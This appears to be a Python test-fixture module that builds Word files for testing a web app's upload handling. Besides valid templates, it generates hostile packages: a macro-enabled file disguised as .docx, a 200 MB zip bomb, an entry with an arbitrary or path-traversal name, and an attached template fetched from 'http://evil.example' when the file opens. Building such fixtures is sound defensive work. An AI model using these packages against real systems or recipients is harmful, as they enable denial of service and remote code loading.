"""Word files for tests: good templates built from the committed ones, and hostile packages."""

from __future__ import annotations

import io
import zipfile

from docx import Document

from kaa_web.document_types import get_type

MACRO_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


def template_with(code: str, *paragraphs: str) -> bytes:
    """The committed template of `code` with extra paragraphs at the end of its body."""
    document = Document(get_type(code).builtin_path)
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rezip(data: bytes, change) -> bytes:
    """A copy of the package with `change(name, bytes) -> bytes` applied to each entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info)))
    return out.getvalue()


def macro_document() -> bytes:
    """A macro-enabled document (.docm) renamed to .docx."""
    base = template_with("brev_ungdom")

    def change(name, content):
        return MACRO_CONTENT_TYPES.encode() if name == "[Content_Types].xml" else content

    data = _rezip(base, change)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return out.getvalue()


def zip_bomb(megabytes: int = 200) -> bytes:
    """A valid-looking document plus one member of `megabytes` MB of zeros, tightly packed."""
    out = io.BytesIO(template_with("brev_ungdom"))
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("word/media/zeros.bin", "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(megabytes):
                member.write(chunk)
    return out.getvalue()


def with_entry(name: str) -> bytes:
    """A good document with one more entry called `name` (e.g. a path-traversal name)."""
    out = io.BytesIO(template_with("brev_ungdom"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, b"<x/>")
    return out.getvalue()


def with_external_relationship(kind: str = "attachedTemplate", target: str = "") -> bytes:
    """A document with one external relationship in its body: by default an attached template
    fetched from a web server when the file opens; `kind="hyperlink"` is a clickable link."""
    target = target or "http://evil.example/t.dotm"
    external = (
        '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )

    def change(name, content):
        if name == "word/_rels/document.xml.rels":
            return content.replace(b"</Relationships>", external.encode())
        return content

    return _rezip(template_with("brev_ungdom"), change)
